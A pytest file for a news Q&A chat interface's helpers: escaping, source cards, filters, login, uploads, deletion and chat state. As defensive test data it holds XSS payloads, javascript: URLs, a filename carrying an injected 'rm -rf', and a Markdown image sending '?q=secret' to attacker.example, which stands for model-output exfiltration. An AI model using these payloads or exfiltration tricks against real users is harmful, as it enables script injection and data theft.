"""The chat page's helpers without a browser: escaping, source cards, filters, examples, login, library
(uploads, table, chart, delete on a real index), the conversation state and the launch options."""

from __future__ import annotations

import gzip
import re
import time
from datetime import date
from pathlib import Path

import pytest
from conftest import SAMPLE

from index.catalog import CatalogRow, CatalogStats, Copy
from index.ingest import Ingestor, IngestReport
from index.lexical import LexicalIndex
from index.models import Article
from index.settings import Settings
from qa.models import Answer, Citation, OtherReport, Passage, Timings
from qa.ui import library
from qa.ui.auth import AuthError, auth_pairs, parse_pair
from qa.ui.chat import Exchange, chat_messages, history, run_stream, selected_turn
from qa.ui.examples import example_questions, headline_question
from qa.ui.filters import FilterError, SearchOptions, read_options
from qa.ui.safe import esc, escape_md, safe_url
from qa.ui.sources import (
    card_html,
    closest_articles,
    excerpt_html,
    filters_text,
    link_citations,
    searched_html,
    sources_html,
)

EVIL = "<img src=x onerror=alert(1)>"


def passage(n: int = 1, *, article: str = "a1", title: str = "Talks in Geneva", score: float = 0.5,
            text: str = "Officials met. The talks will be held in Geneva on Jan 10. More later.",
            url: str = "https://example.com/story") -> Passage:  # fmt: skip
    return Passage(n, f"{article}:0", article, title, "Reuters", "2021-12-31", url, text, score)


def citation(n: int = 1, **kwargs: object) -> Citation:
    p = passage(n, **kwargs)  # type: ignore[arg-type]
    return Citation(n, "The talks will be held in Geneva on Jan 10.", p)


def answer(**kwargs: object) -> Answer:
    base = {"question": "Where are the talks?", "text": "In Geneva [1].", "timings": Timings(12, 900, 2000)}
    base.update(kwargs)
    return Answer(**base)  # type: ignore[arg-type]


# --- escaping ----------------------------------------------------------------------------------------------
def test_only_plain_http_urls_are_links() -> None:
    assert safe_url(" https://example.com/a?b=1&c=2 ") == "https://example.com/a?b=1&c=2"
    assert safe_url("HTTP://EXAMPLE.COM") == "HTTP://EXAMPLE.COM"
    for bad in ["javascript:alert(1)", "data:text/html,<b>x</b>", "https://x.com/\"onmouseover=alert(1)",
                "//example.com", "https://x.com/<script>", "ftp://x.com/f", "", None]:  # fmt: skip
        assert safe_url(bad) is None, bad


def test_escapes_leave_no_markup() -> None:
    assert esc(EVIL) == "&lt;img src=x onerror=alert(1)&gt;"
    assert esc('"x"') == "&quot;x&quot;"
    assert escape_md("*bold* [link](x) <b>") == r"\*bold\* \[link\]\(x\) &lt;b&gt;"


# --- source cards ------------------------------------------------------------------------------------------
def test_excerpt_marks_the_quote_inside_escaped_context() -> None:
    text = "Before <b>this</b>. " * 20 + "The QUOTE is here. " + "After & more. " * 20
    html = excerpt_html(text, "the quote is here.")
    assert "<mark>The QUOTE is here.</mark>" in html  # found ignoring case, shown as written
    assert html.startswith("… ") and html.endswith(" …")  # clipped on both sides at spaces
    assert "&lt;b&gt;this&lt;/b&gt;" in html and "<b>" not in html and "&amp; more" in html
    assert len(html) < len(text)


def test_excerpt_of_a_quote_not_in_the_passage_still_shows_it() -> None:
    html = excerpt_html("Short passage text.", "A <quote> elsewhere")
    assert html.startswith("<mark>A &lt;quote&gt; elsewhere</mark>") and "Short passage text." in html
    assert excerpt_html("Whole passage.", "Whole   passage.") == "<mark>Whole passage.</mark>"


def test_card_shows_number_title_outlet_date_link_and_marked_quote() -> None:
    html = card_html(citation(2), turn=3)
    assert 'id="src-3-2"' in html and '<span class="nq-num">2</span>' in html
    assert (
        '<a class="nq-title" href="https://example.com/story" target="_blank" rel="noopener noreferrer nofollow">'
        in html
    )
    assert "Reuters" in html and "2021-12-31" in html
    assert "<mark>The talks will be held in Geneva on Jan 10.</mark>" in html


def test_card_renders_hostile_article_fields_as_text() -> None:
    c = citation(
        1,
        title=EVIL,
        url="javascript:alert(1)",
        text=f"Intro {EVIL}. The talks will be held in Geneva on Jan 10.",
    )
    c.passage.outlet = "<script>alert(2)</script>"
    html = card_html(c, turn=0)
    assert "<img" not in html and "<script" not in html and "javascript:" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "&lt;script&gt;" in html
    assert "<a " not in html  # no link without an http(s) url


def test_citation_markers_link_to_their_cards() -> None:
    text = "Geneva [1], then Brussels [2] and <b>Vienna</b> [7]."
    linked = link_citations(text, turn=4, cited=[1, 2])
    assert "[\\[1\\]](#src-4-1)" in linked and "[\\[2\\]](#src-4-2)" in linked
    assert "\\[7\\]" in linked and "#src-4-7" not in linked  # not a citation: shown as text
    assert "&lt;b&gt;Vienna&lt;/b&gt;" in linked


def test_answer_text_cannot_make_images_or_links() -> None:
    """A model repeating an article's Markdown image or link must not make the browser fetch or link it."""
    from markdown_it import MarkdownIt

    text = (
        "See ![x](https://attacker.example/?q=secret) and [click](https://phish.example) [1]. \\[a](b) [r][1]"
    )
    rendered = MarkdownIt().render(link_citations(text, turn=0, cited=[1]))
    assert "<img" not in rendered
    assert set(re.findall(r'(?:href|src)="([^"]*)"', rendered)) == {"#src-0-1"}  # only citations link
    assert "![x](https://attacker.example/?q=secret)" in rendered  # shown as the text it was


def test_sources_panel_lists_one_card_per_citation_and_what_was_searched() -> None:
    a = answer(citations=[citation(1), citation(2, article="a2", title="Second")], model="Qwen",
               rewritten_question="Where will the US-Russia talks be held?", filters={"since": "2021-12-01", "until": "2026-11-24"})  # fmt: skip
    html = sources_html(a, turn=0)
    assert html.count('class="nq-card"') == 2 and 'id="src-0-1"' in html and 'id="src-0-2"' in html
    assert "Where will the US-Russia talks be held?" in html and "was read as the standalone question" in html
    assert "since 2021-12-01 · until 2026-11-24" in html
    assert "first token 0.9 s" in html and "model Qwen" in html


def test_abstention_panel_says_what_was_searched_and_the_closest_articles() -> None:
    retrieved = [passage(1, article="a1", score=0.12), passage(2, article="a1", score=0.15),
                 passage(3, article="a2", title=EVIL, score=0.10, url="javascript:x")]  # fmt: skip
    a = answer(text="The articles do not cover this.", abstained=True, retrieved=retrieved,
               abstain_reason="best passage 0.15 < 0.18", filters={"outlet": ["Reuters", "AP"], "until": "2026-01-01"})  # fmt: skip
    html = sources_html(a, turn=1)
    assert "do not cover this question" in html and "best passage 0.15 &lt; 0.18" in html
    assert "Searched for</span> “Where are the talks?”" in html
    assert "until 2026-01-01 · outlets: Reuters, AP" in html
    assert (
        html.count('class="nq-closest-item"') == 2
        and "similarity 0.15" in html
        and "similarity 0.12" not in html
    )
    assert "<img" not in html and "javascript:" not in html and 'class="nq-card"' not in html
    assert [p.score for p in closest_articles(retrieved)] == [0.15, 0.10]
    empty = sources_html(answer(text="x", abstained=True), turn=0)
    assert "No passage was found at all" in empty


def test_filters_text() -> None:
    assert filters_text({}) == "none"
    assert filters_text({"since": "2021-01-01", "outlet": "Reuters", "lang": "en"}) == (
        "since 2021-01-01 · outlets: Reuters · lang: en"
    )


# --- filters -----------------------------------------------------------------------------------------------
def test_read_options_validates_and_describes() -> None:
    options = read_options(
        "2021-12-01", "2021-12-31 00:00:00", ["Reuters", "Reuters", "AP"], "2022-01-05", 6.0
    )
    assert options == SearchOptions(
        date(2021, 12, 1), date(2021, 12, 31), ("Reuters", "AP"), date(2022, 1, 5), 6
    )
    assert options.stream_kwargs() == {
        "since": date(2021, 12, 1), "until": date(2021, 12, 31), "outlets": ["Reuters", "AP"],
        "as_of": date(2022, 1, 5), "top_k": 6,
    }  # fmt: skip
    assert (
        options.describe()
        == "as of 2022-01-05 · since 2021-12-01 · until 2021-12-31 · outlets: Reuters, AP · 6 passages"
    )
    empty = read_options("", None, None, "", None)
    assert empty.stream_kwargs()["outlets"] is None and empty.since is None and empty.as_of is None
    assert empty.describe(default_top_k=4) == f"as of {date.today().isoformat()} · 4 passages"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("yesterday", None, None, None, None), "Since: 'yesterday' is not a date"),
        (("2022-01-02", "2022-01-01", None, None, None), "is after Until"),
        ((None, None, None, "2022-13-01", None), "As of"),
        ((None, None, None, None, 0), "outside 1–20"),
        ((None, None, None, None, "many"), "not a whole number"),
    ],
)
def test_read_options_rejects_bad_values(args: tuple, message: str) -> None:
    with pytest.raises(FilterError, match=re.escape(message)):
        read_options(*args)


# --- examples ----------------------------------------------------------------------------------------------
def row(i: int, title: str, published: str | None, outlet: str | None = "Reuters") -> CatalogRow:
    return CatalogRow(f"id{i}", title, outlet, published, None, f"k{i}", f"/x/{i}.txt", 3)


def test_example_questions_come_from_the_newest_headlines() -> None:
    rows = [row(1, "Old story about the budget vote", "2021-01-01"), row(2, "Putin warns Biden of sanctions", "2021-12-31"),
            row(3, "Putin warns Biden of sanctions", "2021-12-30"), row(4, "Hi", "2022-01-01"),
            row(5, "Will the talks in Geneva succeed?", "2021-12-29")]  # fmt: skip
    assert example_questions(rows, limit=3) == [
        "What do the articles say about “Putin warns Biden of sanctions”?",
        "Will the talks in Geneva succeed?",
        "What do the articles say about “Old story about the budget vote”?",
    ]
    long = headline_question(" ".join(f"w{i}" for i in range(30)))
    assert long is not None and long.endswith("w13…”?")


# --- login -------------------------------------------------------------------------------------------------
def test_auth_from_env_and_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert auth_pairs(Settings(data_dir=tmp_path)) is None
    users = tmp_path / "users"
    users.write_text("# newsroom\nalice:s3cret:with:colons\n\nbob:pw\n")
    monkeypatch.setenv("NEWSQA_AUTH", "editor:pass")
    monkeypatch.setenv("NEWSQA_AUTH_FILE", str(users))
    pairs = auth_pairs(Settings(data_dir=tmp_path))
    assert pairs == [("editor", "pass"), ("alice", "s3cret:with:colons"), ("bob", "pw")]
    assert "pass" not in repr(Settings(data_dir=tmp_path))  # the secret never shows in logs
    users.write_text("alice\n")
    with pytest.raises(AuthError, match=r"users, line 1: expected user:password"):
        auth_pairs(Settings(data_dir=tmp_path))
    with pytest.raises(AuthError, match="NEWSQA_AUTH"):
        parse_pair(":nouser", "NEWSQA_AUTH")


def test_launch_options_bind_loopback_never_share(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import app

    monkeypatch.delenv("NEWSQA_HOST", raising=False)
    monkeypatch.delenv("NEWSQA_PORT", raising=False)
    options = app.launch_options(Settings(data_dir=tmp_path))
    assert (options["server_name"], options["server_port"], options["share"]) == ("127.0.0.1", 7860, False)
    assert options["auth"] is None and options["max_file_size"] == 20 * 1024 * 1024
    monkeypatch.setenv("NEWSQA_AUTH", "u:p")
    monkeypatch.setenv("NEWSQA_UPLOAD_MAX_MB", "1.5")
    options = app.launch_options(Settings(data_dir=tmp_path), host="0.0.0.0", port=9000)
    assert (options["server_name"], options["server_port"], options["auth"]) == (
        "0.0.0.0",
        9000,
        [("u", "p")],
    )
    assert options["max_file_size"] == int(1.5 * 1024 * 1024)


# --- library -----------------------------------------------------------------------------------------------
def test_uploads_are_checked_by_type_and_size(tmp_path: Path) -> None:
    files = {"a.txt": b"x" * 10, "b.JSONL.gz": gzip.compress(b"{}"), "c.pptx": b"PK", "d.md": b"",
             "e.csv": b"y" * 3000, "f.exe.gz": b"z"}  # fmt: skip
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    accepted, refused = library.check_uploads([tmp_path / n for n in files], max_mb=2000 / 1024 / 1024)
    assert [p.name for p in accepted] == ["a.txt", "b.JSONL.gz"]
    reasons = {r.name: r.details for r in refused}
    assert reasons["c.pptx"].startswith("unsupported type") and reasons["f.exe.gz"].startswith(
        "unsupported type"
    )
    assert reasons["d.md"] == "empty file" and reasons["e.csv"].startswith("too large: 0.0 MB (limit")


def test_uploads_are_staged_under_safe_names(tmp_path: Path) -> None:
    src = tmp_path / "in"
    (src / "x").mkdir(parents=True)
    (src / "story.txt").write_text("one")
    (src / "x" / "story.txt").write_text("two")
    (src / ".hidden;rm -rf.md").write_text("three")
    target = tmp_path / "uploads"
    target.mkdir()
    staged = library.stage_uploads(
        [src / "story.txt", src / "x" / "story.txt", src / ".hidden;rm -rf.md"], target
    )
    assert {p.name: name for p, name in staged.items()} == {
        "story.txt": "story.txt", "story-2.txt": "story.txt", "hidden_rm -rf.md": ".hidden;rm -rf.md",
    }  # fmt: skip
    assert (target / "story-2.txt").read_text() == "two" and all(p.parent == target for p in staged)


def test_file_results_follow_the_ingest_report(tmp_path: Path) -> None:
    a, b, c = (tmp_path / n for n in ("a.jsonl", "b.txt", "c.txt"))
    art = lambda p, t: Article(title=t, body="body " + t, source=str(p))  # noqa: E731
    report = IngestReport(
        added=[art(a, "one"), art(a, "two")], unchanged=[art(a, "three")], folded=[Copy("x", "near", art(b, "four"))],
        failed=[(str(c), "empty file")], warnings=[(str(a), "line 3: invalid JSON, skipped")],
    )  # fmt: skip
    results = library.file_results({a: "A.jsonl", b: "B.txt", c: "C.txt"}, report)
    assert [r.row() for r in results] == [
        ["A.jsonl", "added 2 articles, 1 article already in the index", "line 3: invalid JSON, skipped"],
        ["B.txt", "1 duplicate of stored articles (kept once)", ""],
        ["C.txt", "failed", "empty file"],
    ]


def test_article_table_search_and_figures() -> None:
    rows = [
        row(1, "Budget vote", "2021-01-01", "AP"),
        row(2, "Putin warns Biden", "2021-12-31"),
        row(3, "Undated", None),
    ]
    table, matched = library.article_rows(rows, "  putin   reuters ")
    assert (table, matched) == ([["Putin warns Biden", "Reuters", "2021-12-31", "id2"]], 1)
    table, matched = library.article_rows(rows, "", limit=2)
    assert [r[3] for r in table] == ["id2", "id1"] and matched == 3
    stats = CatalogStats(3, 9, ["AP", "Reuters"], "2021-01-01", "2021-12-31", exact_copies=1)
    assert library.figures_markdown(stats, 9) == (
        "**3** articles · **2** outlets · **9** chunks · 2021\\-01\\-01 – 2021\\-12\\-31 · 1 duplicate folded"
    )
    assert "empty" in library.figures_markdown(CatalogStats(0, 0, [], None, None), 0)
    table = library.figures_table(stats, 9, outlets_shown=1)
    assert "| 3 | 2 | 9 | 2021\\-01\\-01 | 2021\\-12\\-31 | 1 |" in table and table.endswith(
        "Outlets: AP and 1 more"
    )


def test_corpus_chart_counts_per_day_and_outlet() -> None:
    rows = [row(1, "a", "2021-12-30", "AP"), row(2, "b", "2021-12-31", "$Money$"), row(3, "c", "2021-12-31", "AP"),
            row(4, "d", None, None)]  # fmt: skip
    fig = library.corpus_chart(rows)
    assert fig is not None
    by_time, by_outlet = fig.axes
    assert [p.get_height() for p in by_time.patches] == [1, 2] and "1 undated" in by_time.get_title()
    widths = {
        t.get_text(): p.get_width()
        for t, p in zip(by_outlet.get_yticklabels(), by_outlet.patches, strict=True)
    }
    assert widths == {"unknown": 1, "\\$Money\\$": 1, "AP": 2}
    fig.savefig(Path("/dev/null"), format="png")  # renders (no math parsing of "$...$")
    assert library.corpus_chart([]) is None


def test_upload_then_delete_keep_chunks_catalog_and_bm25_in_step(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path / "data")
    ingestor = Ingestor(settings)
    ingestor.ingest([SAMPLE], progress=False)
    lexical = LexicalIndex(settings.data_dir, ingestor.store, ingestor.catalog)  # as a running chat holds it
    assert lexical.search("Zorblatt bridge", 5) == []
    upload = tmp_path / "in" / "bridge.txt"
    upload.parent.mkdir()
    upload.write_text("Title: Zorblatt bridge approved\nDate: 2022-03-03\nSource: Vantor Post\n\n"
                      "The Zorblatt city council approved a new bridge over the Vantor river on Thursday.\n")  # fmt: skip
    results, report = library.ingest_uploads(ingestor, [upload], progress=False)
    assert report is not None and [r.result for r in results] == ["added 1 article"]
    new_id = report.added[0].id
    staged = library.uploads_dir(settings) / "bridge.txt"
    assert staged.exists() and report.added[0].source_path == str(staged)
    assert [h.id.split(":")[0] for h in lexical.search("Zorblatt bridge", 5)] == [new_id]  # BM25 followed

    before = ingestor.store.count()
    message = library.delete_article(ingestor, new_id)
    assert message == "Deleted “Zorblatt bridge approved”. Its uploaded file bridge.txt was removed as well."
    assert not staged.exists()
    assert ingestor.store.count() == before - report.chunks_added
    assert ingestor.store.collection.get(where={"article_id": new_id})["ids"] == []
    assert new_id not in {r.id for r in ingestor.catalog.rows()} and len(ingestor.catalog.rows()) == 2
    assert lexical.search("Zorblatt bridge", 5) == []  # the BM25 index followed the delete too
    assert not ingestor.delete(new_id)
    assert library.delete_article(ingestor, "nope") == "That article is no longer in the index."


# --- conversation ------------------------------------------------------------------------------------------
def test_exchanges_make_chat_messages_and_history() -> None:
    first = Exchange("Where are the <talks>?", "as of 2022-01-05 · outlets: A*B · 4 passages")
    first.finish(answer(citations=[citation(1)]), turn=0)
    second = Exchange("and when?", "as of 2022-01-05")
    second.finish(answer(question="and when?", text="On Jan 10 [1].", rewritten_question="When are the talks?",
                         citations=[citation(1)]), turn=1)  # fmt: skip
    third = Exchange("and who?", "")
    third.text = "Partly writ"
    third.interrupt("stopped before the answer was finished")
    messages = chat_messages([first, second, third])
    assert [m["role"] for m in messages] == ["user", "assistant"] * 3
    assert messages[0]["content"].startswith("Where are the &lt;talks&gt;?")
    assert r"outlets: A\*B" in messages[0]["content"] and "<small" in messages[0]["content"]
    assert "searched as: When are the talks?" in messages[2]["content"]
    assert messages[3]["content"] == "On Jan 10 [\\[1\\]](#src-1-1)."
    assert messages[5]["content"] == "Partly writ\n\n_(stopped before the answer was finished)_"
    assert history([first, second, third]) == [
        ("Where are the <talks>?", "In Geneva [1]."),
        ("and when?", "On Jan 10 [1]."),
    ]
    assert 'id="src-1-1"' in second.panel and "No sources: stopped" in third.panel
    assert selected_turn(3, [first, second]) == 1 and selected_turn([2, 0], [first, second]) == 1
    assert selected_turn(4, [first, second]) is None and selected_turn(None, [first]) is None


def test_run_stream_stops_and_closes_the_source() -> None:
    closed = []

    def numbers():
        try:
            yield from range(1000)
        finally:
            closed.append(True)

    seen = []
    for n in run_stream(numbers(), lambda: len(seen) >= 3):
        seen.append(n)
    assert seen == [0, 1, 2]
    deadline = time.monotonic() + 5
    while not closed and time.monotonic() < deadline:  # the worker closes the source when it notices
        time.sleep(0.05)
    assert closed == [True]
    assert list(run_stream(iter(range(40)), lambda: False)) == list(range(40))  # more than the read-ahead

    def failing():
        yield "a"
        raise RuntimeError("model crashed")

    with pytest.raises(RuntimeError, match="model crashed"):
        list(run_stream(failing(), lambda: False))


# --- settings view -----------------------------------------------------------------------------------------
def test_settings_view_names_models_and_index_but_no_secret(tmp_path: Path) -> None:
    from types import SimpleNamespace

    from qa.ui.info import settings_markdown

    settings = Settings(
        data_dir=tmp_path / "da|ta", llm="openai", openai_base_url="http://127.0.0.1:8081/v1",
        openai_model="local", openai_api_key="sk-SECRET", auth="editor:PASSWORD",
    )  # fmt: skip
    (tmp_path / "da|ta").mkdir()
    (tmp_path / "da|ta" / "f").write_bytes(b"x" * 1024 * 1024)
    engine = SimpleNamespace(
        settings=settings,
        catalog=SimpleNamespace(stats=lambda: CatalogStats(3, 9, ["AP"], "2021-01-01", "2021-12-31")),
        store=SimpleNamespace(count=lambda: 9),
        embedder=SimpleNamespace(name="all-MiniLM-L6-v2 (fp32 onnx)"),
    )
    text = settings_markdown(engine)  # type: ignore[arg-type]
    assert "OpenAI\\-compatible server at http://127\\.0\\.0\\.1:8081/v1" in text
    assert "| LLM model | local |" in text and "all\\-MiniLM\\-L6\\-v2 \\(fp32 onnx\\)" in text
    assert "| Index | 3 articles, 9 chunks |" in text and "1\\.0 MB on disk" in text
    assert "da\\|ta" in text and "| Login required | yes |" in text
    assert "SECRET" not in text and "PASSWORD" not in text


def test_card_lists_the_other_outlets_escaped_and_linked_only_over_http() -> None:
    c = citation(1)
    c.also_reported_by = [
        OtherReport("AP", "2021-12-31", "https://ap.example/story"),
        OtherReport("<b>Evil</b>", "", "javascript:alert(1)"),
    ]
    html = card_html(c, turn=0)
    assert "Also reported by" in html
    assert '<a href="https://ap.example/story"' in html and "AP</a> (2021-12-31)" in html
    assert "&lt;b&gt;Evil&lt;/b&gt; (undated)" in html and "javascript:" not in html
    assert "Also reported by" not in card_html(citation(2), turn=0)


def test_the_search_line_says_how_recent_the_sources_are() -> None:
    fresh = answer(citations=[citation(1)])
    assert "Sources dated 2021-12-31." in searched_html(fresh)
    stale = answer(citations=[citation(1)], freshness_note="The newest source is from 2021-12-31, before …")
    assert "Sources dated 2021-12-31. The newest source is from 2021-12-31" in searched_html(stale)
    assert "nq-freshness" not in searched_html(answer())


def test_feeds_table_escapes_and_says_how_to_add_one() -> None:
    from index.feedlist import FeedState
    from qa.ui.library import feeds_markdown

    assert "newsqa feeds add URL" in feeds_markdown([], 30)
    feeds = [
        FeedState("https://wire.example/rss", "2026-12-01T08:00:00+00:00", title="Wire <b>News</b>",
                  last_checked="2026-12-06T09:30:00+00:00", last_added=3),
        FeedState("https://down.example/feed", "2026-12-01T08:00:00+00:00", last_error="HTTP 500"),
    ]  # fmt: skip
    table = feeds_markdown(feeds, 30)
    assert "every 30 minutes" in table and "&lt;b&gt;News&lt;/b&gt;" in table and "<b>" not in table
    assert "| 2026\\-12\\-06 09:30:00 | 3 |" in table
    assert "never" in table and "HTTP 500" in table
